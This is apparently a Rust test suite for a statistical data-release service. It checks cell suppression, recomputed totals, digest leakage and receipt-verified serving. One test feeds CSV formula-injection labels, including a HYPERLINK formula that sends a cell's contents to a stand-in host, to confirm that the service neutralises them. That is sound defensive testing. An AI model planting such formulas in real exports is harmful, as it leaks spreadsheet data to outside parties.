//! From candidate to release: what is withheld, what is added up, and what leaves with it.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use serde_json::{Value, json};
use sluice_domain::digest::sha256_hex;
use sluice_ledger::Receipt;

use crate::support::acts::{Reviewed, figure, inner, terms, text};
use crate::support::shared::shared;

/// Distinct subjects that a cell of open data needs.
const THRESHOLD: u64 = 10;

/// A job whose release was fetched.
pub struct Released {
    /// The job, as it was before its reviewers.
    pub reviewed: Reviewed,
    /// The release's name.
    pub release: String,
    /// Its rows, header first.
    pub rows: Vec<Vec<String>>,
}

/// The question that most tests ask: small carriers by month, so that many cells are small.
pub fn question(dataset: &str) -> Value {
    json!({
        "sql": format!("SELECT carrier, month, distance FROM {dataset}"),
        "dimensions": ["carrier", "month"],
        "measures": [{ "column": "distance" }],
        "statistics": ["subjects", "records", { "sum": "distance" }],
        "margins": [["carrier"], ["month"], []],
    })
}

/// Its release.
pub fn released() -> &'static Released {
    static RELEASED: OnceLock<Released> = OnceLock::new();
    RELEASED.get_or_init(|| {
        let place = &shared().place;
        let reviewed = place.reviewed(&place.plan(&shared().main, &question("flights")));
        let release = place.release(&reviewed);
        let rows = place.rows(&release);
        Released { reviewed, release, rows }
    })
}

#[test]
fn attack_02_a_cell_of_few_is_withheld_like_an_empty_one() {
    let Released { reviewed, rows, .. } = released();
    let shown: BTreeMap<&[String], &[String]> = rows[1..].iter().map(|row| row.split_at(2)).collect();
    let (mut small, mut empty, mut large) = (0, 0, 0);
    for cell in inner(&reviewed.candidate) {
        let labels: Vec<String> = cell["labels"].as_array().unwrap().iter().map(text).collect();
        let figures = shown[labels.as_slice()];
        let subjects = cell["subjects"].as_u64().unwrap();
        if subjects < THRESHOLD {
            assert_eq!(figures, ["c", "c", "c"], "{labels:?} has {subjects} aircraft");
            *if subjects == 0 { &mut empty } else { &mut small } += 1;
        } else {
            // At open grade nothing is rounded: the figures are the true ones.
            let truth = ["subjects", "records", "distance"].map(|name| figure(cell, name));
            for (shown, (value, published)) in figures.iter().zip(truth) {
                assert_eq!(shown, if published { &value } else { "c" }, "{labels:?}");
                large += usize::from(published);
            }
        }
    }
    assert!(small > 5 && empty > 5 && large > 20, "the question has cells of each kind: {small} {empty} {large}");
    assert_eq!(rows.len() - 1, 16 * 12 + 16 + 12 + 1, "as many rows as the contract declares, whatever the data");
}

#[test]
fn attack_04_totals_are_sums_of_what_is_shown() {
    let rows = &released().rows;
    let total = |row: &[String]| row[0] == "*" || row[1] == "*";
    let (totals, inner): (Vec<_>, Vec<_>) = rows[1..].iter().partition(|row| total(row));
    let mut withheld = 0;
    for row in &totals {
        let of = |cell: &&&Vec<String>| (0..2).all(|d| row[d] == "*" || row[d] == cell[d]);
        for figure in 2..5 {
            let parts: Vec<i128> = inner
                .iter()
                .filter(of)
                .filter(|cell| cell[figure] != "c")
                .map(|cell| cell[figure].parse().unwrap())
                .collect();
            let expected = if parts.is_empty() { "c".to_owned() } else { parts.iter().sum::<i128>().to_string() };
            assert_eq!(row[figure], expected, "{row:?}");
            withheld += u32::from(expected == "c");
        }
    }
    assert_eq!(totals.len(), 16 + 12 + 1);
    assert!(withheld > 0, "some carriers show nothing at all");
    // The true totals differ: they would have given the withheld cells away.
    let truth: u64 = crate::support::acts::inner(&released().reviewed.candidate)
        .iter()
        .map(|cell| cell["records"].as_u64().unwrap())
        .sum();
    let all = totals.iter().find(|row| row[0] == "*" && row[1] == "*").expect("the grand total");
    assert!(all[3].parse::<u64>().unwrap() < truth, "{all:?} of {truth}");
}

#[test]
fn attack_34_a_label_that_is_a_formula_is_neutralised() {
    let place = &shared().place;
    let labels = ["=HYPERLINK(\"http://x/\"&A1)", "+1", "-1", "@SUM(A1)", "plain", "=a,\"b\""];
    place.register(&json!({
        "name": "formulas",
        "title": "Formulas",
        "subject": { "column": "id", "domain": "formulas" },
        "grade": "open",
        "n_public": 100,
        "dictionary": { "columns": [
            { "name": "id", "kind": "utf8" },
            { "name": "label", "kind": "utf8", "codes": labels },
        ]},
    }));
    let mut file = csv::Writer::from_writer(Vec::new());
    file.write_record(["id", "label"]).unwrap();
    for n in 0..120 {
        file.write_record([&format!("p{n}"), labels[n % labels.len()]]).unwrap();
    }
    place.seal("formulas", "csv", &file.into_inner().unwrap());
    let grant = place.grant(&terms(json!([{ "dataset": "formulas", "columns": ["id", "label"] }])));
    let plan = json!({ "sql": "SELECT label FROM formulas", "dimensions": ["label"], "statistics": ["subjects"] });
    let release = place.release(&place.reviewed(&place.plan(&grant, &plan)));
    let rows = place.rows(&release);
    let expected = labels.map(|label| if label == "plain" { label.to_owned() } else { format!("'{label}") });
    assert_eq!(rows[1..].iter().map(|row| row[0].clone()).collect::<Vec<_>>(), expected);
    assert!(rows[1..].iter().all(|row| row[1] == "20"), "{rows:?}");
    // It is downloaded, never shown.
    let reply = place.client("olga").get(&format!("/v1/releases/{release}/data?format=csv"));
    let header = |name: &str| reply.headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
    assert!(reply.media().starts_with("text/csv"));
    assert!(header("content-disposition").starts_with("attachment"));
    assert_eq!(header("x-content-type-options"), "nosniff");
}

#[test]
fn attack_44_nothing_that_leaves_is_a_digest_of_what_stays() {
    let shared = shared();
    let place = &shared.place;
    let plan = json!({ "sql": "SELECT origin FROM flights", "dimensions": ["origin"], "statistics": ["subjects"] });
    let jobs = [(); 2].map(|()| place.reviewed(&place.plan(&shared.narrow, &plan)));
    let inside = |reviewed: &Reviewed, file: &str| {
        std::fs::read(place.home.join(format!("inside/requests/{}/{file}", reviewed.request))).unwrap()
    };
    // The same output twice, byte for byte, and nothing on record says that it is the same.
    assert_eq!(inside(&jobs[0], "candidate.json"), inside(&jobs[1], "candidate.json"));
    let requests = jobs.each_ref().map(|reviewed| {
        let request = place.client("abel").get(&format!("/v1/requests/{}", reviewed.request)).ok();
        [text(&request["candidate"]), text(&request["assessment"])]
    });
    assert_ne!(requests[0][0], requests[1][0]);
    assert_ne!(requests[0][1], requests[1][1]);
    // The agency itself can tell, inside.
    let rerun = place.client("carol").act(&format!("/v1/jobs/{}/rerun", jobs[0].job)).ok();
    assert_eq!(rerun["equal"], true);
    let releases = jobs.each_ref().map(|reviewed| place.release(reviewed));
    let bodies = releases.each_ref().map(|release| {
        let receipt = place.client("olga").get(&format!("/v1/releases/{release}/receipt")).body;
        let receipt = Receipt::parse(&receipt).unwrap().verify(Some(&place.key())).unwrap();
        serde_json::from_str::<Value>(receipt.body()).unwrap()
    });
    assert_ne!(bodies[0]["basis"]["reviewed"]["candidate"], bodies[1]["basis"]["reviewed"]["candidate"]);
    assert_ne!(bodies[0]["basis"]["reviewed"]["assessment"], bodies[1]["basis"]["reviewed"]["assessment"]);
    assert_eq!(bodies[0]["artefacts"], bodies[1]["artefacts"], "what left is the same, and its digests are plain");

    let mut served = String::new();
    for (reviewed, release) in jobs.iter().zip(&releases) {
        served += &place.seen(&reviewed.job);
        for part in ["", "/record", "/receipt", "/data?format=csv"] {
            served += &place.client("olga").get(&format!("/v1/releases/{release}{part}")).text();
        }
    }
    served += &place.client("olga").get("/v1/datasets/flights/snapshots").text();
    served += &String::from_utf8(place.ledger()).unwrap();
    let mut secret: Vec<String> = jobs.iter().map(|job| sha256_hex(&inside(job, "candidate.json"))).collect();
    for job in &jobs {
        let keys: Value = serde_json::from_slice(&inside(job, "keys.json")).unwrap();
        secret.extend(["candidate", "assessment", "raw_key", "raw"].map(|name| text(&keys[name])));
    }
    for entry in std::fs::read_dir(place.home.join("inside/snapshots")).unwrap().flatten() {
        let note: Value = serde_json::from_slice(&std::fs::read(entry.path()).unwrap()).unwrap();
        secret.extend(["key", "content"].map(|name| text(&note[name])));
    }
    assert!(secret.iter().all(|digest| digest.len() == 64));
    assert_eq!(secret.iter().find(|digest| served.contains(digest.as_str())), None, "a digest of the inside left");
}

#[test]
fn policy_p23_a_release_is_served_only_as_its_receipt_says() {
    let place = &shared().place;
    let plan = json!({ "sql": "SELECT month FROM flights", "dimensions": ["month"], "statistics": ["records"] });
    let release = place.release(&place.reviewed(&place.plan(&shared().narrow, &plan)));
    let path = place.home.join(format!("releases/{release}/data.csv"));
    let good = place.fetch(&release, "csv");
    let mut bad = good.clone();
    let last = bad.len() - 3;
    bad[last] = if bad[last] == b'1' { b'2' } else { b'1' };
    std::fs::write(&path, bad).unwrap();
    let (code, _) = place.client("olga").get(&format!("/v1/releases/{release}/data?format=csv")).problem();
    assert_eq!(code, "fault", "bytes that the receipt doesn't name aren't served");
    std::fs::write(&path, &good).unwrap();
    assert_eq!(place.fetch(&release, "csv"), good);
}
